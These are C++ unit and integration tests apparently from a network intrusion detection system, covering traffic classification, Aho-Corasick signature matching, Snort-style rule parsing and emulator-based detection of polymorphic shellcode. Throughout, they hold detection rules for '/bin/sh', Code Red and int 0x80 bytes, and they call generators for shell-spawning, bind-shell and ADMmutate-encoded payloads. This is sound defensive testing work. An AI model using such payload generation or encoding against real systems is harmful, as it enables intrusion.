  EXPECT_EQ(c.tainted_count(), 0u);
  EXPECT_GT(c.dark_space().evictions(), 0u);
  EXPECT_LE(c.dark_space().counters().size(), 4u);
}

TEST(Classifier, ExternalStateMatchesEmbeddedState) {
  // The shard-external API (make_state + observe_in) must produce the
  // exact verdict sequence of the embedded single-state API over the
  // same packet stream.
  ClassifierOptions opts;
  opts.dark_space_threshold = 3;
  TrafficClassifier embedded(opts);
  TrafficClassifier external(opts);
  for (TrafficClassifier* c : {&embedded, &external}) {
    c->honeypots().add_decoy(kHoneypot);
    c->dark_space().add_unused_prefix(
        Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  }
  ClassifierState state = external.make_state();

  const std::pair<Ipv4Addr, Ipv4Addr> stream[] = {
      {kAttacker, Ipv4Addr::from_octets(10, 0, 200, 1)},
      {kClient, kServer},
      {kAttacker, Ipv4Addr::from_octets(10, 0, 200, 2)},
      {kAttacker, Ipv4Addr::from_octets(10, 0, 200, 3)},
      {kAttacker, kServer},
      {kClient, kHoneypot},
      {kClient, kServer},
  };
  for (const auto& [src, dst] : stream) {
    auto frame = net::forge_tcp(Endpoint{src, 40000}, Endpoint{dst, 80}, 1,
                                util::as_bytes("x"));
    const net::ParsedPacket pkt = *net::parse_frame(frame);
    EXPECT_EQ(embedded.observe(pkt), external.observe_in(state, pkt));
    EXPECT_EQ(embedded.check(pkt), external.check_in(state, pkt));
  }
  EXPECT_TRUE(state.tainted.contains(kAttacker.value));
  EXPECT_TRUE(state.tainted.contains(kClient.value));
  // External state never leaks into the classifier's embedded state.
  EXPECT_EQ(external.tainted_count(), 0u);
  EXPECT_EQ(external.dark_space().count(kAttacker), 0u);
}

TEST(Classifier, MakeStateInheritsCounterCap) {
  ClassifierOptions opts;
  opts.dark_space_max_sources = 2;
  TrafficClassifier c(opts);
  ClassifierState state = c.make_state();
  for (std::uint32_t src = 0; src < 8; ++src) state.dark_counts.increment(src);
  EXPECT_LE(state.dark_counts.size(), 2u);
  EXPECT_EQ(state.dark_counts.evictions(), 6u);
}

TEST(Classifier, AnalyzeEverythingMode) {
  ClassifierOptions opts;
  opts.analyze_everything = true;
  TrafficClassifier c(opts);
  EXPECT_EQ(c.observe(packet(kClient, kServer)), Verdict::kAnalyze);
  // Without taint bookkeeping: everything is analyzed, nothing tainted.
  EXPECT_EQ(c.tainted_count(), 0u);
}

TEST(Classifier, BothSchemesCompose) {
  ClassifierOptions opts;
  opts.dark_space_threshold = 2;
  TrafficClassifier c(opts);
  c.honeypots().add_decoy(kHoneypot);
  c.dark_space().add_unused_prefix(Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});

  const Ipv4Addr scanner = Ipv4Addr::from_octets(203, 0, 113, 5);
  c.observe(packet(scanner, Ipv4Addr::from_octets(10, 0, 200, 9)));
  c.observe(packet(scanner, Ipv4Addr::from_octets(10, 0, 200, 10)));
  c.observe(packet(kAttacker, kHoneypot));
  EXPECT_TRUE(c.is_tainted(scanner));
  EXPECT_TRUE(c.is_tainted(kAttacker));
  EXPECT_EQ(c.tainted_count(), 2u);
}

TEST(Classifier, HoneypotHitAlsoCountsAsDarkIfConfigured) {
  // A honeypot address can simultaneously live inside an unused prefix;
  // both schemes then see the probe.
  ClassifierOptions opts;
  opts.dark_space_threshold = 1;
  TrafficClassifier c(opts);
  c.honeypots().add_decoy(Ipv4Addr::from_octets(10, 0, 200, 7));
  c.dark_space().add_unused_prefix(Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  EXPECT_EQ(c.observe(packet(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 7))),
            Verdict::kAnalyze);
}

}  // namespace
}  // namespace senids::classify
