#include <gtest/gtest.h>

#include <cstring>

#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/codered.hpp"
#include "sig/rules.hpp"
#include "util/prng.hpp"

namespace senids::sig {
namespace {

using util::Bytes;

// ------------------------------------------------------------ Aho-Corasick

TEST(AhoCorasick, FindsSinglePattern) {
  AhoCorasick ac;
  auto id = ac.add_pattern(util::as_bytes("needle"));
  ac.build();
  auto matches = ac.scan(util::as_bytes("hay needle stack"));
  ASSERT_EQ(matches.size(), 1u);
  EXPECT_EQ(matches[0].pattern_id, id);
  EXPECT_EQ(matches[0].end_offset, 10u);
}

TEST(AhoCorasick, FindsOverlappingPatterns) {
  AhoCorasick ac;
  auto a = ac.add_pattern(util::as_bytes("he"));
  auto b = ac.add_pattern(util::as_bytes("she"));
  auto c = ac.add_pattern(util::as_bytes("hers"));
  ac.build();
  auto matches = ac.scan(util::as_bytes("ushers"));
  // "she" at 1-3, "he" at 2-3, "hers" at 2-5.
  ASSERT_EQ(matches.size(), 3u);
  EXPECT_EQ(matches[0].pattern_id, b);
  EXPECT_EQ(matches[1].pattern_id, a);
  EXPECT_EQ(matches[2].pattern_id, c);
}

TEST(AhoCorasick, RepeatedMatches) {
  AhoCorasick ac;
  ac.add_pattern(util::as_bytes("ab"));
  ac.build();
  EXPECT_EQ(ac.scan(util::as_bytes("ababab")).size(), 3u);
}

TEST(AhoCorasick, BinaryPatterns) {
  AhoCorasick ac;
  ac.add_pattern(Bytes{0xCD, 0x80});
  ac.add_pattern(Bytes{0x00, 0x00});
  ac.build();
  Bytes data{0x31, 0xC0, 0xCD, 0x80, 0x00, 0x00};
  EXPECT_EQ(ac.scan(data).size(), 2u);
}

TEST(AhoCorasick, MatchesAnyEarlyExit) {
  AhoCorasick ac;
  ac.add_pattern(util::as_bytes("x"));
  ac.build();
  EXPECT_TRUE(ac.matches_any(util::as_bytes("aaax")));
  EXPECT_FALSE(ac.matches_any(util::as_bytes("aaab")));
}

TEST(AhoCorasick, RejectsEmptyAndPostBuildPatterns) {
  AhoCorasick ac;
  Bytes empty;
  EXPECT_EQ(ac.add_pattern(empty), SIZE_MAX);
  ac.add_pattern(util::as_bytes("ok"));
  ac.build();
  EXPECT_EQ(ac.add_pattern(util::as_bytes("late")), SIZE_MAX);
}

TEST(AhoCorasick, EmptyAutomatonMatchesNothing) {
  AhoCorasick ac;
  ac.build();
  EXPECT_FALSE(ac.matches_any(util::as_bytes("anything")));
}

/// Property sweep: AC results must agree with naive search on random
/// inputs and random pattern sets.
class AhoCorasickProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(AhoCorasickProperty, AgreesWithNaiveSearch) {
  util::Prng prng(GetParam());
  std::vector<Bytes> patterns;
  AhoCorasick ac;
  const std::size_t n_patterns = 1 + prng.below(8);
  for (std::size_t i = 0; i < n_patterns; ++i) {
    // Small alphabet maximizes overlaps and failure-link traffic.
    Bytes p;
    const std::size_t len = 1 + prng.below(4);
    for (std::size_t j = 0; j < len; ++j) p.push_back(static_cast<std::uint8_t>(prng.below(3)));
    ac.add_pattern(p);
    patterns.push_back(std::move(p));
  }
  ac.build();
  Bytes text;
  for (std::size_t i = 0; i < 300; ++i) text.push_back(static_cast<std::uint8_t>(prng.below(3)));

  std::size_t naive = 0;
  for (const auto& p : patterns) {
    for (std::size_t i = 0; i + p.size() <= text.size(); ++i) {
      if (std::memcmp(text.data() + i, p.data(), p.size()) == 0) ++naive;
    }
  }
  EXPECT_EQ(ac.scan(text).size(), naive);
}

INSTANTIATE_TEST_SUITE_P(Seeds, AhoCorasickProperty, ::testing::Range<std::uint64_t>(0, 24));

// ------------------------------------------------------------------ rules

TEST(SignatureEngine, DefaultRulesCatchClassicShellcode) {
  SignatureEngine engine(make_default_rules());
  // The push-builder variant contains the literal push-/bin//sh bytes.
  auto corpus = gen::make_shell_spawn_corpus();
  EXPECT_TRUE(engine.any_match(corpus[1].code));  // push-builder
}

TEST(SignatureEngine, DefaultRulesCatchCodeRed) {
  SignatureEngine engine(make_default_rules());
  auto alerts = engine.scan(gen::make_code_red_ii_request(), 80);
  EXPECT_FALSE(alerts.empty());
}

TEST(SignatureEngine, PortFilterApplies) {
  std::vector<Rule> rules;
  rules.push_back(Rule{"http-only", util::to_bytes(".ida?"), 80});
  SignatureEngine engine(std::move(rules));
  EXPECT_TRUE(engine.any_match(util::as_bytes("GET /x.ida?a"), 80));
  EXPECT_TRUE(engine.scan(util::as_bytes("GET /x.ida?a"), 25).empty());
}

TEST(SignatureEngine, MissesArithRebuildVariant) {
  // The arith-rebuild variant has neither "/bin/sh" text nor the literal
  // push bytes: the syntactic baseline is blind to it. (Motivating case
  // for semantic detection, Section 3.)
  SignatureEngine engine(make_default_rules());
  auto corpus = gen::make_shell_spawn_corpus();
  EXPECT_FALSE(engine.any_match(corpus[4].code));  // arith-rebuild
}

TEST(SignatureEngine, ExactRuleMatchesOnlyItsInstance) {
  // Signature extracted from one polymorphic instance...
  util::Prng prng(42);
  auto payload = util::to_bytes("SOMEPAYLOADBYTES");
  auto instance_a = gen::admmutate_encode(payload, prng);
  Rule rule = make_exact_rule("instance-a", instance_a.bytes, instance_a.sled_len, 24);
  SignatureEngine engine({rule});
  EXPECT_TRUE(engine.any_match(instance_a.bytes));
  // ...fails on a fresh instance from the same engine.
  auto instance_b = gen::admmutate_encode(payload, prng);
  EXPECT_FALSE(engine.any_match(instance_b.bytes));
}

TEST(SignatureEngine, ScanReportsOffsets) {
  std::vector<Rule> rules;
  rules.push_back(Rule{"r", util::to_bytes("xyz"), 0});
  SignatureEngine engine(std::move(rules));
  auto alerts = engine.scan(util::as_bytes("..xyz.."));
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].offset, 2u);
  EXPECT_EQ(alerts[0].rule_name, "r");
}

TEST(SignatureEngine, MakeExactRuleClampsBounds) {
  Bytes sample = util::to_bytes("abcdef");
  Rule r = make_exact_rule("clamped", sample, 4, 100);
  EXPECT_EQ(r.pattern, util::to_bytes("ef"));
}

}  // namespace
}  // namespace senids::sig

#include "sig/ruleparse.hpp"

namespace senids::sig {
namespace {

std::vector<Rule> parse_rules_ok(std::string_view text) {
  auto result = parse_snort_rules(text);
  if (auto* err = std::get_if<RuleParseError>(&result)) {
    ADD_FAILURE() << "line " << err->line << ": " << err->message;
    return {};
  }
  return std::get<std::vector<Rule>>(result);
}

TEST(RuleParse, BasicContentRule) {
  auto rules = parse_rules_ok(
      R"(alert tcp any any -> any 80 (msg:"WEB-IIS ida attempt"; content:".ida?"; sid:1243;))");
  ASSERT_EQ(rules.size(), 1u);
  EXPECT_EQ(rules[0].name, "WEB-IIS ida attempt");
  EXPECT_EQ(rules[0].pattern, util::to_bytes(".ida?"));
  EXPECT_EQ(rules[0].dst_port, 80);
}

TEST(RuleParse, HexContent) {
  auto rules = parse_rules_ok(
      R"(alert tcp any any -> any any (msg:"int80"; content:"|CD 80|";))");
  ASSERT_EQ(rules.size(), 1u);
  EXPECT_EQ(rules[0].pattern, (util::Bytes{0xCD, 0x80}));
  EXPECT_EQ(rules[0].dst_port, 0);
}

TEST(RuleParse, MixedTextAndHex) {
  auto rules = parse_rules_ok(
      R"(alert tcp any any -> any any (msg:"m"; content:"ab|43 44|ef";))");
  ASSERT_EQ(rules.size(), 1u);
  EXPECT_EQ(rules[0].pattern, util::to_bytes("abCDef"));
}

TEST(RuleParse, MultipleContentsBecomeMultipleRules) {
  auto rules = parse_rules_ok(
      R"(alert tcp any any -> any 80 (msg:"two"; content:"aaa"; content:"bbb";))");
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[0].name, rules[1].name);
}

TEST(RuleParse, CommentsAndBlanksSkipped) {
  auto rules = parse_rules_ok(
      "# header comment\n\n"
      "alert udp any any -> any 53 (msg:\"d\"; content:\"x\";)\n"
      "# trailing comment\n");
  ASSERT_EQ(rules.size(), 1u);
  EXPECT_EQ(rules[0].dst_port, 53);
}

TEST(RuleParse, Errors) {
  auto expect_err = [](std::string_view text, std::string_view needle) {
    auto result = parse_snort_rules(text);
    auto* err = std::get_if<RuleParseError>(&result);
    ASSERT_NE(err, nullptr) << text;
    EXPECT_NE(err->message.find(needle), std::string::npos) << err->message;
  };
  expect_err("drop tcp any any -> any 80 (content:\"x\";)", "alert");
  expect_err("alert icmp any any -> any 80 (content:\"x\";)", "protocol");
  expect_err("alert tcp any any <- any 80 (content:\"x\";)", "->");
  expect_err("alert tcp any any -> any 99999 (content:\"x\";)", "port");
  expect_err("alert tcp any any -> any 80 (msg:\"no content\";)", "content");
  expect_err("alert tcp any any -> any 80 (content:\"|4|\";)", "content");
  expect_err("alert tcp any any -> any 80 content:\"x\";", "(");
}

TEST(RuleParse, ParsedRulesDriveTheEngine) {
  auto rules = parse_rules_ok(
      "alert tcp any any -> any 80 (msg:\"ida\"; content:\".ida?\";)\n"
      "alert tcp any any -> any any (msg:\"binsh\"; content:\"/bin/sh\";)\n");
  SignatureEngine engine(std::move(rules));
  EXPECT_TRUE(engine.any_match(gen::make_code_red_ii_request(), 80));
  EXPECT_TRUE(engine.any_match(gen::make_shell_spawn_corpus()[0].code, 80));
  EXPECT_FALSE(engine.any_match(util::as_bytes("harmless"), 80));
}

}  // namespace
}  // namespace senids::sig
