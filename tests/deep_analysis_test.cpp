// Integration tests for the emulation-backed deep-analysis stage: the
// encrypted payload's *behaviour* becomes visible once the decoder has
// run in the sandbox.
#include <gtest/gtest.h>

#include "core/senids.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/emitter.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kHoneypot = Ipv4Addr::from_octets(10, 0, 0, 7);
const Endpoint kAttacker{Ipv4Addr::from_octets(192, 0, 2, 66), 31337};

NidsEngine deep_engine() {
  NidsOptions options;
  options.enable_emulation = true;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  return nids;
}

bool has_alert(const Report& r, std::string_view name) {
  for (const Alert& a : r.alerts) {
    if (a.template_name == name) return true;
  }
  return false;
}

TEST(DeepAnalysis, EncryptedShellSpawnExposed) {
  // Static analysis alone sees only the decryption loop; with emulation
  // the execve behind the encryption surfaces too.
  gen::TraceBuilder tb(41);
  auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(poly.bytes, tb.prng()));

  NidsOptions static_opts;
  NidsEngine static_engine(static_opts);
  static_engine.classifier().honeypots().add_decoy(kHoneypot);
  Report static_report = static_engine.process_capture(tb.capture());
  EXPECT_TRUE(static_report.detected(ThreatClass::kDecryptionLoop));
  EXPECT_FALSE(static_report.detected(ThreatClass::kShellSpawn));

  auto nids = deep_engine();
  Report deep_report = nids.process_capture(tb.capture());
  EXPECT_TRUE(deep_report.detected(ThreatClass::kDecryptionLoop));
  EXPECT_TRUE(deep_report.detected(ThreatClass::kShellSpawn));
  EXPECT_TRUE(has_alert(deep_report, "emulated:spawned-shell"));
  EXPECT_GT(deep_report.stats.frames_emulated, 0u);
  EXPECT_GT(deep_report.stats.emulated_steps, 0u);
}

TEST(DeepAnalysis, DecodedFrameMatchesStaticTemplates) {
  // The second static pass over the decoded frame fires the shell-spawn
  // *template* (not just the behavioural check).
  gen::TraceBuilder tb(42);
  auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(poly.bytes, tb.prng()));
  auto nids = deep_engine();
  Report report = nids.process_capture(tb.capture());
  bool decoded_template_hit = false;
  for (const Alert& a : report.alerts) {
    if (a.frame_reason == extract::FrameReason::kEmulatedDecode &&
        a.threat == ThreatClass::kShellSpawn) {
      decoded_template_hit = true;
    }
  }
  EXPECT_TRUE(decoded_template_hit);
}

TEST(DeepAnalysis, EncryptedBindShellExposed) {
  gen::TraceBuilder tb(43);
  auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[8].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(poly.bytes, tb.prng()));
  auto nids = deep_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kPortBindShell));
}

TEST(DeepAnalysis, CletInstanceExposed) {
  gen::TraceBuilder tb(44);
  auto clet = gen::clet_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(clet.bytes, tb.prng()));
  auto nids = deep_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(DeepAnalysis, SweepOverSeeds) {
  for (std::uint64_t seed = 50; seed < 62; ++seed) {
    gen::TraceBuilder tb(seed);
    auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
    tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                    gen::wrap_in_overflow(poly.bytes, tb.prng()));
    auto nids = deep_engine();
    Report report = nids.process_capture(tb.capture());
    EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn)) << "seed " << seed;
  }
}

TEST(DeepAnalysis, BenignTrafficStaysClean) {
  gen::TraceBuilder tb(45);
  const Endpoint client{Ipv4Addr::from_octets(198, 51, 100, 1), 40000};
  for (int i = 0; i < 10; ++i) {
    // Aim benign traffic at the honeypot so it reaches the emulator.
    tb.add_tcp_flow(client, Endpoint{kHoneypot, 80},
                    gen::make_benign_payload(tb.prng()).data);
  }
  auto nids = deep_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_FALSE(has_alert(report, "emulated:spawned-shell"));
  EXPECT_FALSE(has_alert(report, "emulated:bound-port"));
}

TEST(DeepAnalysis, DoubleEncodedPayloadPeeled) {
  // Layered polymorphism: an ADMmutate instance encrypted again by a
  // second ADMmutate pass. Static analysis sees only the outer decoder;
  // the emulator executes outer decoder -> inner decoder -> payload, so
  // the execve still surfaces.
  for (std::uint64_t seed = 200; seed < 206; ++seed) {
    util::Prng prng(seed);
    auto inner = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, prng);
    auto outer = gen::admmutate_encode(inner.bytes, prng);

    gen::TraceBuilder tb(seed);
    tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                    gen::wrap_in_overflow(outer.bytes, tb.prng()));
    auto nids = deep_engine();
    Report report = nids.process_capture(tb.capture());
    EXPECT_TRUE(report.detected(ThreatClass::kDecryptionLoop)) << seed;
    EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn)) << seed;
  }
}

TEST(DeepAnalysis, DisabledByDefault) {
  NidsOptions options;
  EXPECT_FALSE(options.enable_emulation);
  NidsEngine nids(options);
  gen::TraceBuilder tb(46);
  auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  Alert meta;
  NidsStats stats;
  nids.analyze_payload(poly.bytes, meta, &stats);
  EXPECT_EQ(stats.frames_emulated, 0u);
}

}  // namespace
}  // namespace senids::core

namespace senids::core {
namespace {

TEST(DeepAnalysis, ConfirmationKeepsRealDecoders) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.confirm_decoders_by_emulation = true;
  NidsEngine nids(options);
  core::Alert meta;
  auto alerts = nids.analyze_payload(gen::make_iis_asp_overflow_payload(), meta);
  bool decoder = false;
  for (const auto& a : alerts) {
    if (a.threat == ThreatClass::kDecryptionLoop) decoder = true;
  }
  EXPECT_TRUE(decoder);
}

TEST(DeepAnalysis, ConfirmationKeepsPolymorphicInstances) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.confirm_decoders_by_emulation = true;
  NidsEngine nids(options);
  for (std::uint64_t seed = 600; seed < 610; ++seed) {
    util::Prng prng(seed);
    auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, prng);
    core::Alert meta;
    auto alerts = nids.analyze_payload(gen::wrap_in_overflow(poly.bytes, prng), meta);
    bool decoder = false;
    for (const auto& a : alerts) {
      if (a.threat == ThreatClass::kDecryptionLoop) decoder = true;
    }
    EXPECT_TRUE(decoder) << seed;
  }
}

TEST(DeepAnalysis, ConfirmationDropsNonExecutingShape) {
  // A bare decoder-shaped snippet whose pointer register is never set:
  // statically it matches, but in the sandbox it faults without decoding
  // anything — confirmation must drop the alert.
  gen::Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(gen::R32::ecx, 8);
  a.bind(head);
  a.xor_mem8_imm8(gen::R32::esi, 0x42);  // esi = 0 in the sandbox: unmapped
  a.inc_r32(gen::R32::esi);
  a.loop_(head);
  util::Bytes code = a.finish();
  // Pad so the extractor sees a binary region.
  util::Bytes payload(32, 0x90);
  payload.insert(payload.end(), code.begin(), code.end());
  payload.insert(payload.end(), 32, 0xCC);

  NidsOptions plain;
  plain.classifier.analyze_everything = true;
  NidsEngine static_engine(plain);
  core::Alert meta;
  auto static_alerts = static_engine.analyze_payload(payload, meta);
  bool static_decoder = false;
  for (const auto& al : static_alerts) {
    if (al.threat == ThreatClass::kDecryptionLoop) static_decoder = true;
  }
  ASSERT_TRUE(static_decoder);  // precondition: statically it looks real

  NidsOptions confirming = plain;
  confirming.confirm_decoders_by_emulation = true;
  NidsEngine confirming_engine(confirming);
  auto confirmed_alerts = confirming_engine.analyze_payload(payload, meta);
  for (const auto& al : confirmed_alerts) {
    EXPECT_NE(al.threat, ThreatClass::kDecryptionLoop);
  }
}

}  // namespace
}  // namespace senids::core
