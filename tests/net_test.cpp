#include <gtest/gtest.h>

#include "net/flow.hpp"
#include "net/forge.hpp"
#include "net/packet.hpp"

namespace senids::net {
namespace {

TEST(Ipv4Addr, ParseValid) {
  auto a = Ipv4Addr::parse("192.168.1.200");
  ASSERT_TRUE(a.has_value());
  EXPECT_EQ(a->value, 0xC0A801C8u);
  EXPECT_EQ(a->str(), "192.168.1.200");
}

TEST(Ipv4Addr, ParseEdgeValues) {
  EXPECT_EQ(Ipv4Addr::parse("0.0.0.0")->value, 0u);
  EXPECT_EQ(Ipv4Addr::parse("255.255.255.255")->value, 0xFFFFFFFFu);
}

TEST(Ipv4Addr, ParseRejectsMalformed) {
  EXPECT_FALSE(Ipv4Addr::parse("").has_value());
  EXPECT_FALSE(Ipv4Addr::parse("1.2.3").has_value());
  EXPECT_FALSE(Ipv4Addr::parse("1.2.3.4.5").has_value());
  EXPECT_FALSE(Ipv4Addr::parse("256.1.1.1").has_value());
  EXPECT_FALSE(Ipv4Addr::parse("1.2.3.x").has_value());
  EXPECT_FALSE(Ipv4Addr::parse("1..3.4").has_value());
}

TEST(Ipv4Addr, FromOctetsMatchesParse) {
  EXPECT_EQ(Ipv4Addr::from_octets(10, 0, 0, 7), Ipv4Addr::parse("10.0.0.7").value());
}

TEST(MacAddr, FromU64AndFormat) {
  MacAddr m = MacAddr::from_u64(0x0123456789ABULL);
  EXPECT_EQ(m.str(), "01:23:45:67:89:ab");
}

TEST(Checksum, KnownVector) {
  // RFC 1071 example: 00 01 f2 03 f4 f5 f6 f7 -> checksum 0x220d.
  util::Bytes data{0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7};
  EXPECT_EQ(internet_checksum(data), 0x220d);
}

TEST(Checksum, OddLengthHandled) {
  util::Bytes data{0x01, 0x02, 0x03};
  // 0x0102 + 0x0300 = 0x0402 -> ~ = 0xfbfd
  EXPECT_EQ(internet_checksum(data), 0xfbfd);
}

TEST(Ipv4Header, EncodeHasValidChecksum) {
  Ipv4Header h;
  h.src = Ipv4Addr::from_octets(1, 2, 3, 4);
  h.dst = Ipv4Addr::from_octets(5, 6, 7, 8);
  util::Bytes out;
  h.encode(out, 100);
  // Verifying the checksum over the header must yield zero.
  EXPECT_EQ(internet_checksum(util::ByteView(out).first(Ipv4Header::kSize)), 0);
}

TEST(ForgeTcp, RoundTripsThroughParser) {
  Endpoint src{Ipv4Addr::from_octets(10, 1, 1, 1), 1234};
  Endpoint dst{Ipv4Addr::from_octets(10, 2, 2, 2), 80};
  util::Bytes payload = util::to_bytes("GET / HTTP/1.0\r\n\r\n");
  util::Bytes frame = forge_tcp(src, dst, 1000, payload);

  auto pkt = parse_frame(frame, 55, 66);
  ASSERT_TRUE(pkt.has_value());
  EXPECT_EQ(pkt->ts_sec, 55u);
  EXPECT_EQ(pkt->transport, Transport::kTcp);
  EXPECT_EQ(pkt->ip.src, src.ip);
  EXPECT_EQ(pkt->ip.dst, dst.ip);
  EXPECT_EQ(pkt->tcp.src_port, 1234);
  EXPECT_EQ(pkt->tcp.dst_port, 80);
  EXPECT_EQ(pkt->tcp.seq, 1000u);
  EXPECT_EQ(pkt->tcp.flags, kTcpPsh | kTcpAck);
  EXPECT_EQ(util::to_string(pkt->payload), "GET / HTTP/1.0\r\n\r\n");
}

TEST(ForgeTcp, TcpChecksumVerifies) {
  Endpoint src{Ipv4Addr::from_octets(10, 1, 1, 1), 1};
  Endpoint dst{Ipv4Addr::from_octets(10, 2, 2, 2), 2};
  util::Bytes payload = util::to_bytes("xyz");
  util::Bytes frame = forge_tcp(src, dst, 7, payload);
  // Recompute over the TCP segment with the pseudo-header; must be 0.
  util::ByteView segment = util::ByteView(frame).subspan(EthernetHeader::kSize +
                                                         Ipv4Header::kSize);
  std::uint32_t pseudo = 0;
  pseudo += (src.ip.value >> 16) + (src.ip.value & 0xffff);
  pseudo += (dst.ip.value >> 16) + (dst.ip.value & 0xffff);
  pseudo += kIpProtoTcp;
  pseudo += static_cast<std::uint32_t>(segment.size());
  EXPECT_EQ(internet_checksum(segment, pseudo), 0);
}

TEST(ForgeSyn, HasSynFlagAndNoPayload) {
  Endpoint src{Ipv4Addr::from_octets(1, 1, 1, 1), 9999};
  Endpoint dst{Ipv4Addr::from_octets(2, 2, 2, 2), 80};
  auto pkt = parse_frame(forge_syn(src, dst, 42));
  ASSERT_TRUE(pkt.has_value());
  EXPECT_EQ(pkt->tcp.flags, kTcpSyn);
  EXPECT_EQ(pkt->tcp.seq, 42u);
  EXPECT_TRUE(pkt->payload.empty());
}

TEST(ForgeUdp, RoundTripsThroughParser) {
  Endpoint src{Ipv4Addr::from_octets(10, 1, 1, 1), 5353};
  Endpoint dst{Ipv4Addr::from_octets(10, 2, 2, 2), 53};
  util::Bytes payload = util::to_bytes("dns-ish");
  auto pkt = parse_frame(forge_udp(src, dst, payload));
  ASSERT_TRUE(pkt.has_value());
  EXPECT_EQ(pkt->transport, Transport::kUdp);
  EXPECT_EQ(pkt->udp.src_port, 5353);
  EXPECT_EQ(pkt->udp.dst_port, 53);
  EXPECT_EQ(util::to_string(pkt->payload), "dns-ish");
}

TEST(ParseFrame, RejectsNonIpv4Ethertype) {
  util::Bytes frame(EthernetHeader::kSize, 0);
  frame[12] = 0x86;  // IPv6 ethertype
  frame[13] = 0xDD;
  EXPECT_FALSE(parse_frame(frame).has_value());
}

TEST(ParseFrame, RejectsTruncatedIpHeader) {
  Endpoint src{Ipv4Addr::from_octets(1, 1, 1, 1), 1};
  Endpoint dst{Ipv4Addr::from_octets(2, 2, 2, 2), 2};
  util::Bytes frame = forge_tcp(src, dst, 0, util::to_bytes("data"));
  frame.resize(EthernetHeader::kSize + 10);
  EXPECT_FALSE(parse_frame(frame).has_value());
}

TEST(ParseFrame, OtherIpProtocolSurfacesPayload) {
  // Hand-forge an ICMP-ish packet (protocol 1).
  util::Bytes frame;
  EthernetHeader eth;
  eth.encode(frame);
  Ipv4Header ip;
  ip.protocol = 1;
  ip.src = Ipv4Addr::from_octets(1, 1, 1, 1);
  ip.dst = Ipv4Addr::from_octets(2, 2, 2, 2);
  ip.encode(frame, 4);
  frame.insert(frame.end(), {0x08, 0x00, 0x00, 0x00});
  auto pkt = parse_frame(frame);
  ASSERT_TRUE(pkt.has_value());
  EXPECT_EQ(pkt->transport, Transport::kOtherIp);
  EXPECT_EQ(pkt->payload.size(), 4u);
  EXPECT_EQ(pkt->src_port(), 0);
}

TEST(ParseFrame, TotalLengthBoundsPayload) {
  // A frame with trailing Ethernet padding: payload must stop at the IP
  // total_length, not at the captured frame end.
  Endpoint src{Ipv4Addr::from_octets(1, 1, 1, 1), 1};
  Endpoint dst{Ipv4Addr::from_octets(2, 2, 2, 2), 2};
  util::Bytes frame = forge_udp(src, dst, util::to_bytes("ab"));
  frame.insert(frame.end(), 10, 0x00);  // padding
  auto pkt = parse_frame(frame);
  ASSERT_TRUE(pkt.has_value());
  EXPECT_EQ(pkt->payload.size(), 2u);
}

TEST(FlowKey, EqualityAndHash) {
  Endpoint src{Ipv4Addr::from_octets(1, 1, 1, 1), 10};
  Endpoint dst{Ipv4Addr::from_octets(2, 2, 2, 2), 20};
  auto p1 = parse_frame(forge_tcp(src, dst, 0, util::to_bytes("a")));
  auto p2 = parse_frame(forge_tcp(src, dst, 5, util::to_bytes("b")));
  auto p3 = parse_frame(forge_tcp(dst, src, 0, util::to_bytes("c")));
  ASSERT_TRUE(p1 && p2 && p3);
  EXPECT_EQ(FlowKey::of(*p1), FlowKey::of(*p2));
  EXPECT_FALSE(FlowKey::of(*p1) == FlowKey::of(*p3));
  FlowKeyHash h;
  EXPECT_EQ(h(FlowKey::of(*p1)), h(FlowKey::of(*p2)));
}

TEST(FlowMap, GroupsByFlow) {
  FlowMap<int> map;
  Endpoint a{Ipv4Addr::from_octets(1, 1, 1, 1), 10};
  Endpoint b{Ipv4Addr::from_octets(2, 2, 2, 2), 20};
  auto p1 = parse_frame(forge_tcp(a, b, 0, util::to_bytes("x")));
  auto p2 = parse_frame(forge_tcp(a, b, 1, util::to_bytes("y")));
  map[FlowKey::of(*p1)] += 1;
  map[FlowKey::of(*p2)] += 1;
  EXPECT_EQ(map.size(), 1u);
  EXPECT_EQ(map[FlowKey::of(*p1)], 2);
}

}  // namespace
